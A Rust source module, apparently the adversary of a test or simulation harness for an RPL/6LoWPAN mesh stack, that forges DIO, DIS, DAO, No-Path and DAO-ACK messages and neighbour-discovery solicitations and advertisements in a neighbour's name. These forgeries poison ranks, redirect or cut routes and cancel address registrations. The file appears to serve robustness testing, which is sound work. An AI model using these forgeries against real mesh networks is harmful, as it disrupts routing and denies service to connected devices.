//! Forged messages of RPL and of neighbour discovery.
//!
//! Purpose: messages in a neighbour's name that mislead a mesh without a key. Place: `attack` takes
//! a packet from here, and sends it in a frame with that neighbour's address. Left out: attackers
//! that react at once to what they hear.

use std::net::Ipv6Addr;

use motet::ip::Step;
use motet::rpl::{ALL_RPL_NODES, Dodag, INFINITE_RANK, status};
use motet::wire::LinkAddr;
use motet::wire::cursor::{Full, Writer};
use motet::wire::icmpv6;
use motet::wire::lollipop;
use motet::wire::ndp::{AddressRegistration, NdpOption, NdpOptions, registration};
use motet::wire::rpl::{
    Dao, DaoAck, Dio, Dis, Message, Metrics, RplOption, RplOptions, Target, Transit, mode,
};

use super::{Forgery, WRONG_PREFIX, link_local, stranger, uncompressed};
use crate::net::plan;

/// A node's place in routing, as overheard messages say it in clear.
#[derive(Clone, PartialEq, Debug)]
pub(crate) struct Overheard {
    /// The DODAG that the node is in.
    pub(crate) dodag: Dodag,
    /// The rank of the node itself.
    pub(crate) rank: u16,
    /// The node's neighbours and their ranks: the parent first, then its children, then others.
    pub(crate) neighbours: Vec<(LinkAddr, u16)>,
    /// The last path sequences of motes, as their DAOs said.
    pub(crate) steps: Vec<Step>,
}

/// A packet, and the two ends of the frame that carries it.
pub(super) struct Forged {
    pub(super) to: LinkAddr,
    pub(super) from: LinkAddr,
    pub(super) packet: Vec<u8>,
}

impl Overheard {
    /// The `made`-th packet of a kind, to mislead `near`; none of a kind that is none of these.
    pub(super) fn forge(
        &self,
        kind: Forgery,
        near: LinkAddr,
        (made, number): (u32, u32),
    ) -> Option<Forged> {
        let (named, rank) = self.neighbour(made)?;
        let dio = self.dio(rank);
        let to_all = |packet| Forged {
            to: LinkAddr::BROADCAST,
            from: named,
            packet,
        };
        Some(match kind {
            Forgery::Version => to_all(said_by(
                named,
                &Dio {
                    version: lollipop::next(dio.version),
                    ..dio
                },
            )),
            Forgery::Mode => to_all(said_by(
                named,
                &Dio {
                    mode: mode::STORING,
                    ..dio
                },
            )),
            Forgery::Dtsn => {
                let dtsn = number as u8;
                to_all(said_by(named, &Dio { dtsn, ..dio }))
            }
            Forgery::Poison => to_all(said_by(
                named,
                &Dio {
                    rank: INFINITE_RANK,
                    ..dio
                },
            )),
            Forgery::Rank => to_all(said_by(
                named,
                &Dio {
                    rank: self.wrong_rank(named),
                    ..dio
                },
            )),
            Forgery::Prefix => {
                let options = options_of(&[RplOption::Prefix(WRONG_PREFIX)]);
                let options = RplOptions::parse(&options).unwrap_or_default();
                to_all(said_by(named, &Dio { options, ..dio }))
            }
            Forgery::Dis => {
                let dis = Message::Dis(Dis::default());
                to_all(packet(&dis, link_local(named), ALL_RPL_NODES, 255))
            }
            Forgery::DisToOne => {
                let (from, dis) = (stranger(number), Message::Dis(Dis::default()));
                Forged {
                    to: near,
                    from,
                    packet: packet(&dis, link_local(from), link_local(near), 255),
                }
            }
            Forgery::Dao | Forgery::NoPath => self.dao(kind, near, (made, number))?,
            Forgery::DaoAck => self.dao_ack(near, (made, number))?,
            _ => return None,
        })
    }

    /// The neighbour whose turn it is.
    fn neighbour(&self, made: u32) -> Option<(LinkAddr, u16)> {
        let turn = made as usize % self.neighbours.len().max(1);
        self.neighbours.get(turn).copied()
    }

    /// A DIO of a neighbour with this rank, as far as it is true.
    fn dio(&self, rank: u16) -> Dio<'static> {
        let dodag = &self.dodag;
        Dio {
            instance: dodag.instance,
            version: dodag.version,
            rank,
            grounded: dodag.grounded,
            mode: dodag.mode,
            preference: dodag.preference,
            dtsn: lollipop::INITIAL,
            dodag: dodag.id,
            options: RplOptions::default(),
        }
    }

    /// The parent is far from the root, and everybody else a hop away from it.
    fn wrong_rank(&self, named: LinkAddr) -> u16 {
        let is_parent = self.neighbours.first().is_some_and(|(it, _)| *it == named);
        match is_parent {
            true => INFINITE_RANK / 2,
            false => self.dodag.configuration.min_hop_rank_increase * 2,
        }
    }

    /// A DAO in the name of a mote below the node, or of the node itself, sent to that mote's
    /// parent. It gives the mote a parent that does not exist, or a neighbour as parent, or ends
    /// its route (lifetime 0).
    fn dao(&self, kind: Forgery, near: LinkAddr, (made, number): (u32, u32)) -> Option<Forged> {
        let (mote, _) = self.neighbour(made / 2)?;
        let (parent, _) = self.neighbours.first().copied()?;
        let is_root = plan::addr_of(plan::MESH_PREFIX, near) == self.dodag.id;
        // The DAO of the node's parent does not pass the node; so a DAO of the node, sent to that
        // parent, takes its place.
        let (target, to) = match mote == parent && !is_root {
            true => (near, parent),
            false => (mote, near),
        };
        let known = self.steps.iter().find(|step| step.child == target.iid());
        let true_parent = known.map_or(parent.iid(), |step| step.parent);
        let (other, _) = self.neighbour(made / 2 + 1)?;
        let (parent, lifetime) = match kind {
            Forgery::NoPath => (self.addr_of(true_parent), 0),
            _ if made % 2 == 0 => (self.addr_of(stranger(number).iid()), 30),
            _ => (self.addr_of(other.iid()), 30),
        };
        let sequence = known.map_or(lollipop::INITIAL, |step| lollipop::next(step.sequence));
        let options = options_of(&[
            RplOption::Target(Target {
                prefix_len: 128,
                prefix: self.addr_of(target.iid()),
            }),
            RplOption::Transit(Transit {
                external: false,
                path_control: 0x80,
                sequence,
                lifetime,
                parent: Some(parent),
            }),
        ]);
        let dao = Dao {
            instance: self.dodag.instance,
            ack_requested: false,
            sequence: made as u8,
            dodag: None,
            options: RplOptions::parse(&options).unwrap_or_default(),
        };
        let src = self.addr_of(target.iid());
        Some(Forged {
            to,
            from: target,
            packet: packet(&Message::Dao(dao), src, self.dodag.id, 64),
        })
    }

    /// A DAO-ACK to the node, as if from the root by way of the node's parent. Its sequence is
    /// guessed, beginning with those of motes that have just started.
    fn dao_ack(&self, near: LinkAddr, (made, number): (u32, u32)) -> Option<Forged> {
        let (parent, _) = self.neighbours.first().copied()?;
        let statuses = [status::ENTERED, status::OTHER_PARENT, status::REJECTED];
        let ack = DaoAck {
            instance: self.dodag.instance,
            sequence: lollipop::INITIAL.wrapping_add((number % 32) as u8),
            status: statuses[made as usize % statuses.len()],
            dodag: None,
            options: RplOptions::default(),
        };
        let dst = self.addr_of(near.iid());
        Some(Forged {
            to: near,
            from: parent,
            packet: packet(&Message::DaoAck(ack), self.dodag.id, dst, 64),
        })
    }

    fn addr_of(&self, iid: [u8; 8]) -> Ipv6Addr {
        let high = self.dodag.prefix().to_bits() >> 64 << 64;
        Ipv6Addr::from_bits(high | u128::from(u64::from_be_bytes(iid)))
    }
}

/// A solicitation in a neighbour's name that ends its registration with the node.
pub(super) fn solicitation(named: LinkAddr, near: LinkAddr, made: u32) -> Vec<u8> {
    let LinkAddr::Extended(owner) = named else {
        return Vec::new();
    };
    let src = plan::addr_of(plan::MESH_PREFIX, named);
    let options = ndp_options(&[
        NdpOption::SourceLinkAddr(named),
        NdpOption::AddressRegistration(AddressRegistration {
            status: registration::SUCCESS,
            opaque: 0,
            opaque_use: 0,
            reachable: true,
            transaction: Some(made as u8),
            lifetime_min: 0,
            owner: &owner,
        }),
    ]);
    let message = icmpv6::Message::NeighborSolicitation {
        target: link_local(near),
        options: NdpOptions::parse(&options).unwrap_or_default(),
    };
    uncompressed(&message, src, link_local(near), 255)
}

/// An advertisement in the parent's name that calls the node's address another's.
pub(super) fn refusal(parent: LinkAddr, near: LinkAddr, made: u32) -> Vec<u8> {
    let LinkAddr::Extended(owner) = near else {
        return Vec::new();
    };
    let own = plan::addr_of(plan::MESH_PREFIX, near);
    let options = ndp_options(&[NdpOption::AddressRegistration(AddressRegistration {
        status: registration::DUPLICATE,
        opaque: 0,
        opaque_use: 0,
        reachable: true,
        transaction: Some(made as u8),
        lifetime_min: 60,
        owner: &owner,
    })]);
    let message = icmpv6::Message::NeighborAdvertisement {
        flags: 0x40,
        target: own,
        options: NdpOptions::parse(&options).unwrap_or_default(),
    };
    uncompressed(&message, link_local(parent), own, 255)
}

/// A DIO of this neighbour, with the cost that its rank stands for.
fn said_by(named: LinkAddr, dio: &Dio<'_>) -> Vec<u8> {
    let cost = Metrics::etx_object(dio.rank.saturating_sub(256) / 2);
    let metrics = Metrics::parse(&cost)
        .ok()
        .filter(|_| dio.rank != INFINITE_RANK);
    let metrics: Vec<_> = metrics.map(RplOption::Metrics).into_iter().collect();
    let options = [dio.options.as_bytes(), &options_of(&metrics)].concat();
    let dio = Dio {
        options: RplOptions::parse(&options).unwrap_or_default(),
        ..*dio
    };
    packet(&Message::Dio(dio), link_local(named), ALL_RPL_NODES, 255)
}

fn packet(message: &Message<'_>, src: Ipv6Addr, dst: Ipv6Addr, hop_limit: u8) -> Vec<u8> {
    let bytes = written(|w| message.emit(w));
    let [kind, code, _, _, body @ ..] = &bytes[..] else {
        return Vec::new();
    };
    let message = icmpv6::Message::Other {
        kind: *kind,
        code: *code,
        body,
    };
    uncompressed(&message, src, dst, hop_limit)
}

fn options_of(options: &[RplOption<'_>]) -> Vec<u8> {
    written(|w| options.iter().try_for_each(|option| option.emit(w)))
}

pub(super) fn ndp_options(options: &[NdpOption<'_>]) -> Vec<u8> {
    written(|w| options.iter().try_for_each(|option| option.emit(w)))
}

fn written(emit: impl FnOnce(&mut Writer<'_>) -> Result<(), Full>) -> Vec<u8> {
    let mut out = [0; motet::limits::PSDU_LEN_MAX];
    let mut w = Writer::new(&mut out);
    let fits = emit(&mut w);
    debug_assert_eq!(fits, Ok(()), "forged messages are short");
    let len = w.written();
    out[..len].to_vec()
}
